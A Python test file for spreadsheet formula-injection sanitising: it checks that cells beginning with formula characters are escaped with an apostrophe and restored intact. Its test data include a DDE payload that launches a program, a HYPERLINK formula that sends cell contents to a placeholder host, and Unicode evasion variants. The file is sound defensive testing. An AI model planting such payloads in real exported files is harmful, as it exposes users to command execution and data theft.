"""Cells that a spreadsheet would run are made harmless, and come back as they were."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.spreadsheets import plain_cell, rows_text, safe_cell
from tests.cases import cases

ACTIVE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "'=1",
    '"=1',
    "’=1",
    "«=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0dA1",
    "\uff20SUM(A1)",
    "\u2212A1",
    "%0A=1",
    "|calc",
    '=HYPERLINK("http://x/?"&A1,"hi")',
    "=\t1",
    "--1",
    "-A1",
    "+A1",
    "=",
    "@x",
]
WITHIN = {
    "a;=1+1": "a;'=1+1",
    "a\t=1": "a\t'=1",
    "a,@x": "a,'@x",
    "a|=1": "a|'=1",
    "a\n=1": "a\n'=1",
    "a\r\n=1": "a\r\n'=1",
    "a; =1;b;-c": "a;' =1;b;'-c",
    'a;"=1': "a;'\"=1",
    "-1;=2": "'-1;'=2",
    "\t=1": "'\t'=1",
    "\n=1": "'\n'=1",
    "a;'=1": "a;''=1",
    "5;-3, +2": "5;-3, +2",
    "a; b": "a; b",
}
HARMLESS = [
    "",
    "-",
    "+",
    "-5",
    "+5",
    "−5",
    "-1,5",
    "-1.234,50",
    "+12 %",
    "5=5",
    "a@b",
    "'quoted'",
    "–",
    "Orc",
    "3-4",
    "it's",
]


@cases("text", ACTIVE)
def test_a_formula_gets_an_apostrophe_and_comes_back(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert plain_cell(safe_cell(text)) == text


@cases("text", HARMLESS)
def test_words_and_numbers_stay(text: str) -> None:
    assert safe_cell(text) == plain_cell(text) == text


@cases("text", WITHIN)
def test_a_formula_behind_another_separator_is_made_harmless_too(text: str) -> None:
    assert safe_cell(text) == WITHIN[text]
    assert plain_cell(safe_cell(text)) == text


@pytest.mark.parametrize("other", ",;\t|")
@pytest.mark.parametrize("sign", ",;\t|")
def test_a_file_split_at_another_separator_has_no_formula(sign: str, other: str) -> None:
    cells = ["Orc", *ACTIVE, *WITHIN]
    text = rows_text([["x", cell, "y"] for cell in cells], sign)
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        for row in csv.reader(io.StringIO(text), delimiter=other, quoting=quoting):
            assert not [cell for cell in row if cell.strip()[:1] in {"=", "@"} or cell.strip()[:2] == "-c"]


def test_a_cell_with_any_usual_separator_stands_in_quotation_marks() -> None:
    assert rows_text([["a;b", "c\td", "e,f"]]) == '"a;b","c\td","e,f"\r\n'


@given(st.text(alphabet="=+-@'\" \t\n1a;,|\uff1d\u200b", max_size=12) | st.text(max_size=30))
def test_any_text_comes_back_and_none_is_run(text: str) -> None:
    assert plain_cell(safe_cell(text)) == text
    assert safe_cell(text)[:1] not in {"=", "@", "\t", "\r"}


@given(
    st.lists(st.lists(st.text(st.characters(exclude_characters="\r\0"), max_size=9), min_size=2, max_size=4))
)
def test_rows_are_read_as_they_were_written(rows: list[list[str]]) -> None:
    for sign in ",;\t|":
        for raw in (True, False):
            text = rows_text(rows, sign, raw=raw)
            read = list(csv.reader(io.StringIO(text, newline=""), delimiter=sign))
            assert read == (rows if raw else [[safe_cell(cell) for cell in row] for row in rows])


def test_numbers_stay_numbers() -> None:
    assert rows_text([[-5, 1.5, None, "-5"]]) == "-5,1.5,,-5\r\n"
